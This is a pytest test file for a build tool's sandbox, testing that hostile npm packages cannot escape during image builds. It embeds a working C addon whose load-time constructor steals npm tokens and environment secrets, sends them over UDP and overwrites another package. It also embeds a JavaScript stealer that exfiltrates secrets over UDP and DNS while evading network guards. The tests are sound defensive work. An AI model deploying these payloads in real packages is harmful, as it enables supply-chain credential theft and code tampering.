"""Loading a package under review during `image` runs its code: the attacks of a hostile package, against the sandbox.

Each attacker is a real package published to the local verdaccio: a native addon compiled here with
the system's C compiler (an ELF constructor runs at dlopen, before Node looks at the file), and pure
JavaScript reaching for the network the ways a JavaScript guard misses. The build runs as a
subprocess, as CI runs it, with fake tokens in its environment and in ``~/.npmrc``; real UDP and DNS
listeners on loopback wait for the tokens, which must never arrive.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from neuralis_build.image.layout.tiers import stored
from tests.conftest import manifest, requires_node, requires_sandbox
from tests.image.conftest import LocalRegistry, package_tgz, spec_text, write_tgz

pytestmark = [pytest.mark.e2e, pytest.mark.registry, requires_node]

BIN = Path(sys.executable).parent
TOKEN_ENV = "FAKE-ENV-TOKEN-5b1e"
TOKEN_NPMRC = "FAKE-NPMRC-TOKEN-93c4"
ORIGINAL = "module.exports = 'reviewed';\n"

requires_cc = pytest.mark.skipif(shutil.which("cc") is None, reason="the attacker's addon is built with cc")

ADDON = r"""
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t slurp(const char *path, char *buf, size_t cap) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, cap);
  close(fd);
  return n > 0 ? (size_t)n : 0;
}

static void mark(const char *name, const char *data, size_t n) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", OUT, name);
  FILE *f = fopen(path, "w");
  if (f) { fwrite(data, 1, n, f); fclose(f); }
}

__attribute__((constructor)) static void attack(void) {
  char cmd[4200];
  snprintf(cmd, sizeof cmd, "id > '%s/id.txt' 2>/dev/null", OUT);
  if (system(cmd) != 0) { /* no shell, or nowhere to write */ }
  mark("outside.txt", "x", 1);
  static char loot[1 << 16];
  size_t n = 0;
  char path[4096];
  const char *home = getenv("HOME");
  if (home) { snprintf(path, sizeof path, "%s/.npmrc", home); n += slurp(path, loot + n, sizeof loot - n); }
  snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
  n += slurp(path, loot + n, sizeof loot - n);
  n += slurp("/proc/1/environ", loot + n, sizeof loot - n);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s >= 0) {
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons(UDP_PORT);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sendto(s, loot, n ? n : 1, 0, (struct sockaddr *)&to, sizeof to);
    close(s);
  }
  mark("stolen.txt", loot, n);
  char cwd[4096];
  if (!getcwd(cwd, sizeof cwd)) return;
  for (int up = 0; up < 10; up++) {  /* the first-party package in the image, whatever the staging folder's name */
    char target[8192];
    snprintf(target, sizeof target, "%s/node_modules/fp-lib/index.js", cwd);
    if (access(target, F_OK) == 0) {
      unlink(target);
      FILE *w = fopen(target, "w");
      if (w) { fputs("module.exports = 'pwned';\n", w); fclose(w); }
      mark("rewrote.txt", target, strlen(target));
      break;
    }
    char *slash = strrchr(cwd, '/');
    if (!slash || slash == cwd) break;
    *slash = 0;
  }
}

/* a real N-API module: Node loads it and finds nothing wrong */
typedef struct napi_env__ *napi_env;
typedef struct napi_value__ *napi_value;
napi_value napi_register_module_v1(napi_env env, napi_value exports) { (void)env; return exports; }
"""

STEALER = r"""
const fs = require("fs");
const os = require("os");
const dgram = require("dgram");
const dns = require("dns");
let loot = "";
for (const file of [os.homedir() + "/.npmrc", `/proc/${process.ppid}/environ`, "/proc/1/environ"]) {
  try { loot += fs.readFileSync(file, "utf8"); } catch (e) {}
}
loot = loot || "nothing";
// a socket made with its own lookup, never through dgram.createSocket or dns.lookup
const s = new dgram.Socket({ type: "udp4", lookup: (host, opts, cb) => cb(null, "127.0.0.1", 4) });
try { s.send(Buffer.from(loot), UDP_PORT, "collector.invalid", () => s.close()); } catch (e) {}
// a resolver of its own, pointed at the attacker's name server (c-ares, not dns.lookup)
const r = new dns.Resolver();
try {
  r.setServers([`127.0.0.1:${DNS_PORT}`]);
  r.resolve4(Buffer.from(loot).toString("hex").slice(0, 60) + ".exfil.invalid", () => {});
} catch (e) {}
module.exports = 1;
"""


def lib(name: str, version: str, **extra: Any) -> dict[str, Any]:
    return {"name": name, "version": version, "main": "index.js", "license": "MIT", **extra}


@pytest.fixture
def listeners() -> Iterator[dict[str, socket.socket]]:
    """A UDP collector and a 'name server' on loopback, as an attacker would run them."""
    out = {}
    for role in ("udp", "dns"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", 0))
        s.setblocking(False)
        out[role] = s
    yield out
    for s in out.values():
        s.close()


def received(s: socket.socket) -> list[bytes]:
    """Every datagram that reached the listener (delivery on loopback is done when sendto returns)."""
    got = []
    while True:
        try:
            got.append(s.recv(65536))
        except BlockingIOError:
            return got


def secret_home(tmp_path: Path) -> Path:
    """A home whose .npmrc holds a registry token, as a CI runner's does."""
    home = tmp_path / "ci-home"
    home.mkdir()
    (home / ".npmrc").write_text(f"//registry.example.invalid/:_authToken={TOKEN_NPMRC}\n")
    return home


def build(tmp_path: Path, spec: str, home: Path, **env: str) -> subprocess.CompletedProcess[str]:
    """``neuralis-build image`` as CI runs it: a process of its own, its secrets in its environment and home."""
    (tmp_path / "image.toml").write_text(spec)
    environment = {**os.environ, "HOME": str(home), "NPM_TOKEN": TOKEN_ENV, **env}
    return subprocess.run(
        [str(BIN / "neuralis-build"), "image", str(tmp_path / "image.toml"), "--out", str(tmp_path / "out")],
        cwd=tmp_path,
        env=environment,
        capture_output=True,
        text=True,
        timeout=600,
    )


def publish(registry: LocalRegistry, tmp: Path, data: dict[str, Any], files: dict[str, str | bytes]) -> None:
    stem = f"{data['name']}-{data['version']}.tgz"
    registry.publish(write_tgz(tmp / "publish", stem, package_tgz(data, files)))


def addon(tmp_path: Path, out: Path, udp_port: int) -> bytes:
    """The attacker's ``.node``, compiled here: its constructor knows where to drop its evidence."""
    source = tmp_path / "evil.c"
    source.write_text(ADDON)
    target = tmp_path / "evil.node"
    subprocess.run(
        ["cc", "-shared", "-fPIC", f"-DOUT={json.dumps(str(out))}", f"-DUDP_PORT={udp_port}", "-o", target, source],
        check=True,
        capture_output=True,
    )
    return target.read_bytes()


def first_party_and_attacker(tmp_path: Path, registry: LocalRegistry, attacker: dict[str, Any], files: dict) -> str:
    """A reviewed host-dependency package (fp-lib) and the attacker, listed untrusted; the SPEC naming both."""
    write_tgz(tmp_path / "tgz", "fp-lib.tgz", package_tgz(lib("fp-lib", "1.0.0"), {"index.js": ORIGINAL}))
    write_tgz(tmp_path / "tgz", "attacker.tgz", package_tgz(attacker, files))
    return spec_text(
        {"source": "tgz/fp-lib.tgz", "class": "host-dependency"},
        {"source": "tgz/attacker.tgz", "class": "installed", "trust": "untrusted"},
    )


@requires_cc
@requires_sandbox
def test_a_native_addon_under_review_reaches_nothing_of_the_build_machine_and_changes_no_package(
    tmp_path: Path, npm_registry: LocalRegistry, listeners: dict[str, socket.socket]
) -> None:
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    evidence.chmod(0o777)  # whoever the addon runs as, it could write here if it could see it
    data = lib("evil-native", "1.0.0", scripts={"install": "node-gyp rebuild"})
    files = {
        "index.js": "module.exports = require('./build/Release/evil.node');\n",
        "binding.gyp": "{'targets': [{'target_name': 'evil', 'sources': ['evil.c']}]}",
        "build/Release/evil.node": addon(tmp_path, evidence, listeners["udp"].getsockname()[1]),
    }
    spec = first_party_and_attacker(tmp_path, npm_registry, data, files)
    done = build(tmp_path, spec, secret_home(tmp_path))
    assert done.returncode == 0, done.stderr
    # it ran (its load is judged), and reached nothing: no command, no file outside, no secret, no network
    report = json.loads((tmp_path / "out/neuralis-image.json").read_text())
    assert {s["name"]: s["load"] for s in report["scripts"]} == {"evil-native": {"status": "works", "detail": None}}
    assert sorted(p.name for p in evidence.iterdir()) == []
    assert received(listeners["udp"]) == []
    # the first-party package the image commits is the one reviewed, byte for byte, and so is the SBOM's record
    assert (tmp_path / "out/node_modules/fp-lib/index.js").read_text() == ORIGINAL
    assert "note: packages with install scripts were loaded in the sandbox" in done.stderr


@requires_sandbox
def test_javascript_under_review_reads_no_secret_and_sends_nothing_past_the_network_guard(
    tmp_path: Path, npm_registry: LocalRegistry, listeners: dict[str, socket.socket]
) -> None:
    source = STEALER.replace("UDP_PORT", str(listeners["udp"].getsockname()[1]))
    source = source.replace("DNS_PORT", str(listeners["dns"].getsockname()[1]))
    data = lib("evil-js", "1.0.0", scripts={"postinstall": "node setup.js"})
    spec = first_party_and_attacker(tmp_path, npm_registry, data, {"index.js": source})
    done = build(tmp_path, spec, secret_home(tmp_path))
    assert done.returncode == 0, done.stderr
    assert received(listeners["udp"]) == []
    assert received(listeners["dns"]) == []
    report = json.loads((tmp_path / "out/neuralis-image.json").read_text())
    assert {s["name"]: s["load"]["status"] for s in report["scripts"]} == {"evil-js": "works"}


def test_with_no_sandbox_no_package_is_loaded_and_none_is_said_to_work(
    tmp_path: Path, npm_registry: LocalRegistry
) -> None:
    marker = tmp_path / "loaded"
    loads = f"require('fs').writeFileSync({json.dumps(str(marker))}, 'x');\nmodule.exports = 1;\n"
    publish(
        npm_registry,
        tmp_path,
        lib("acme-native", "1.0.0", scripts={"install": "node-gyp rebuild"}),
        {"index.js": loads},
    )
    app = manifest(name="acme-app", dependencies={"acme-native": "1.0.0"})
    write_tgz(tmp_path / "tgz", "app.tgz", package_tgz(app))
    spec = spec_text({"source": "tgz/app.tgz", "class": "host-dependency"})
    done = build(tmp_path, spec, secret_home(tmp_path), NEURALIS_BWRAP="")
    assert done.returncode == 0, done.stderr  # could not be checked: a warning, even for a host-dependency
    assert not marker.exists()
    report = json.loads((tmp_path / "out/neuralis-image.json").read_text())
    reason = "no sandbox on this machine (NEURALIS_BWRAP is set to an empty string, which turns the sandbox off)"
    assert [(s["name"], s["load"]) for s in report["scripts"]] == [
        ("acme-native", {"status": "not-checked", "detail": reason})
    ]
    path = stored("first-party", "acme-native", "1.0.0")
    assert [(c["kind"], c["severity"], c["message"]) for c in report["conflicts"]] == [
        (
            "load",
            "warning",
            f"acme-native@1.0.0 ({path}, via acme-app → acme-native) was not loaded: {reason}: load it on a host like "
            "yours to know whether it works without its install script; install bubblewrap to have the image build "
            "load it in its sandbox",
        )
    ]
    assert f"note: {reason}: 1 package(s) with install scripts were not loaded" in done.stderr
